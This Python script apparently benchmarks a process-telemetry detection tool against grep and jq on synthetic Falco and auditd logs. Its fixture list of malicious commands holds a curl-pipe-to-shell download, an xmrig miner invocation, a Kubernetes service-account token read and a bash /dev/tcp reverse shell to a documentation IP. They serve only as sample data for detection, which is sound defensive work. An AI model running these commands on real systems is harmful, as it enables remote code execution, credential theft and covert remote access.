#!/usr/bin/env python3
"""Time `execguard hunt` on process telemetry (Falco JSON alerts, an auditd log) against grep and jq, same run.

    python benchmarks/telemetry.py --events 200000 --repeat 3

Writes, seeded and reproducible, ``benchmarks/out/falco-N.jsonl`` (N Falco alerts on process starts in
containers, one in 20 a command some rule rates: downloads, miners, token reads, shells from runc) and
``benchmarks/out/audit-N.log`` (N execve events of five records each, two events' records interleaved,
plus one openat event per execve that no rule reads). Per repeat and file: ``grep -F -c execve``
(a floor: one literal, no parsing), ``execguard hunt -o jsonl -q -j 1`` and, for the Falco file,
``jq -c 'select(.output_fields["evt.type"]=="execve")' | wc -l``. Medians (wall and CPU time of each pipeline)
and the ratios of hunt to grep and jq from the same run are printed and written to benchmarks/out/telemetry-*.json.
Every process start is parsed (each holds a prefilter literal), so this is the dense case.
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import os
import random
import resource
import shutil
import statistics
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

OUT = Path(__file__).parent / "out"
EXE = Path(sys.executable).parent / "execguard"

BENIGN = [
    "ls -la /app", "cat /etc/nginx/nginx.conf", "python3 /app/manage.py migrate", "sleep 30", "date",
    "grep -c error /var/log/app.log", "node server.js", "java -jar /app/app.jar", "nginx -g daemon off;",
]  # fmt: skip
BAD = [
    "sh -c curl -s http://203.0.113.9/x.sh | sh", "./xmrig -o stratum+tcp://pool.example:3333 --donate-level 1",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
]  # fmt: skip


def command(rng: random.Random) -> tuple[str, str]:
    """(cmdline, parent name)."""
    if rng.random() < 0.05:
        cmd = rng.choice(BAD)
        return cmd, "runc" if cmd == "sh" else "sh"
    return rng.choice(BENIGN), rng.choice(["sh", "bash", "containerd-shim", "node"])


def write_falco(path: Path, n: int, seed: int) -> None:
    rng = random.Random(seed)
    t0 = 1_795_723_200_000_000_000
    with open(path, "w") as f:
        for i in range(n):
            cmd, parent = command(rng)
            fields = {
                "container.id": f"{rng.randrange(16**12):012x}", "container.image.repository": "registry.example/shop/web",
                "container.name": "web", "evt.time": t0 + i * 1_000_000, "evt.type": "execve", "k8s.ns.name": "shop",
                "k8s.pod.name": f"web-{rng.randrange(50)}", "proc.cmdline": cmd, "proc.exepath": "/bin/" + cmd.split()[0],
                "proc.name": cmd.split()[0], "proc.pid": 1000 + i, "proc.ppid": 900 + i, "proc.pname": parent,
                "user.name": "root", "user.uid": 0,
            }  # fmt: skip
            rec = {"hostname": "node-a", "output": "Notice process started", "output_fields": fields, "priority": "Notice",
                   "rule": "Spawned process in container", "source": "syscall", "tags": ["container"],
                   "time": f"2026-11-26T20:00:00.{i % 10**9:09d}Z"}  # fmt: skip
            f.write(json.dumps(rec, separators=(",", ":")) + "\n")


def write_audit(path: Path, n: int, seed: int) -> None:
    rng = random.Random(seed)
    with open(path, "w") as f:
        pending: list[list[str]] = []
        for i in range(n):
            cmd, _ = command(rng)
            stamp = f"audit({1795723200 + i // 1000}.{i % 1000:03d}:{10_000 + 2 * i})"
            argv = cmd.split()
            args = " ".join(f"a{k}={a.encode().hex().upper()}" for k, a in enumerate(argv))
            pending.append([
                f'type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 '
                f'ppid={900 + i} pid={1000 + i} auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 '
                f'tty=(none) ses=4294967295 comm="{argv[0][:15]}" exe="/bin/{argv[0]}" key="exec"',
                f"type=EXECVE msg={stamp}: argc={len(argv)} {args}",
                f'type=CWD msg={stamp}: cwd="/app"',
                f"type=PROCTITLE msg={stamp}: proctitle={chr(0).join(argv).encode().hex().upper()}",
                f"type=EOE msg={stamp}: ",
            ])  # fmt: skip
            other = f"audit({1795723200 + i // 1000}.{i % 1000:03d}:{10_001 + 2 * i})"
            f.write(f'type=SYSCALL msg={other}: arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=1 a2=0 a3=0 '
                    f'items=1 ppid=1 pid=77 auid=4294967295 uid=0 comm="cat" exe="/bin/cat" key="files"\n'
                    f"type=EOE msg={other}: \n")  # fmt: skip
            if len(pending) == 2:  # two events' records interleaved, as a busy node writes them
                for a, b in zip(*pending, strict=True):
                    f.write(a + "\n" + b + "\n")
                pending.clear()
        for rec in pending:
            f.write("\n".join(rec) + "\n")


def timed(cmd: str) -> tuple[float, float, str]:
    """(wall seconds, CPU seconds of the whole pipeline, stdout): CPU time holds better on a shared machine."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    start = time.perf_counter()
    res = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, check=False)
    wall = time.perf_counter() - start
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    if res.returncode not in (0, 1):
        raise SystemExit(f"{cmd}: exit {res.returncode}: {res.stderr[-500:]}")
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return wall, cpu, res.stdout.strip()


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=200_000)
    ap.add_argument("--repeat", type=int, default=3)
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    OUT.mkdir(exist_ok=True)
    falco, audit = OUT / f"falco-{args.events}.jsonl", OUT / f"audit-{args.events}.log"
    write_falco(falco, args.events, args.seed)
    write_audit(audit, args.events, args.seed)
    result: dict[str, object] = {"when": dt.datetime.now(dt.UTC).isoformat(), "load": os.getloadavg(), "events": args.events}
    for path in (falco, audit):
        path.read_bytes()  # warm the page cache
        lines = path.read_bytes().count(b"\n")
        cmds = {"grep": f"grep -F -c execve {path}", "hunt -j 1": f"{EXE} hunt -o jsonl -q -j 1 {path} | wc -l"}
        if path is falco and shutil.which("jq"):
            cmds["jq"] = f"jq -c 'select(.output_fields[\"evt.type\"]==\"execve\")' {path} | wc -l"
        times: dict[str, list[float]] = {k: [] for k in cmds}
        cpus: dict[str, list[float]] = {k: [] for k in cmds}
        outs: dict[str, str] = {}
        for _ in range(args.repeat):
            for name, cmd in cmds.items():
                secs, cpu, out = timed(cmd)
                times[name].append(secs)
                cpus[name].append(cpu)
                outs[name] = out
        med = {k: statistics.median(v) for k, v in times.items()}
        cpu_med = {k: statistics.median(v) for k, v in cpus.items()}
        row: dict[str, Any] = {"file": path.name, "bytes": path.stat().st_size, "lines": lines, "median_s": med,
               "runs_s": times, "out": outs,
               "median_cpu_s": cpu_med, "hunt_vs_jq_cpu": (cpu_med["jq"] / cpu_med["hunt -j 1"]) if "jq" in cpu_med else None,
               "lines_per_s": {k: lines / v for k, v in med.items()},
               "hunt_vs_grep": med["grep"] / med["hunt -j 1"],
               "hunt_vs_jq": (med["jq"] / med["hunt -j 1"]) if "jq" in med else None}  # fmt: skip
        result[path.name] = row
        ratio_jq = f", {row['hunt_vs_jq']:.2f}x jq" if row["hunt_vs_jq"] else ""
        print(f"{path.name}: {lines} lines, {row['bytes'] / 1e6:.1f} MB; "
              + ", ".join(f"{k} {v:.2f} s ({lines / v:,.0f} lines/s)" for k, v in med.items())
              + f"; hunt {row['hunt_vs_grep']:.3f}x grep{ratio_jq}; alerts {outs['hunt -j 1']}; CPU s: "
              + ", ".join(f"{k} {v:.2f}" for k, v in cpu_med.items())
              + f" ({args.events / cpu_med['hunt -j 1']:,.0f} events per CPU second)")  # fmt: skip
    print(f"load average before: {result['load']}")
    stamp = dt.datetime.now(dt.UTC).strftime("%Y%m%dT%H%M%SZ")
    (OUT / f"telemetry-{stamp}.json").write_text(json.dumps(result, indent=1))


if __name__ == "__main__":
    main()
